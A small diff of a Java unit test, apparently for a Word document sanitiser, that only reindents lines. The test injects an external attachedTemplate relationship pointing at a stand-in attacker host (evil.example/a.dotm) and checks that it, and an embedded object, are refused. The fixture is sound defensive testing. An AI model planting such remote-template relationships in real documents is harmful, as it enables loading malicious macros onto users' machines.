@@ -192,9 +192,9 @@ class TemplateTest {
                         text -> text.replace(
                                 "</Relationships>",
                                 "<Relationship Id=\"rId9\""
-                                    + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
-                                    + " Target=\"http://evil.example/a.dotm\""
-                                    + " TargetMode=\"External\"/></Relationships>"))))
+                                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
+                                        + " Target=\"http://evil.example/a.dotm\""
+                                        + " TargetMode=\"External\"/></Relationships>"))))
                 .isEqualTo("template.external http://evil.example/a.dotm");
         assertThat(refusal(body(BODY_PLACE, BODY_PLACE + "<w:r><w:object/></w:r>")))
                 .isEqualTo("template.object object");
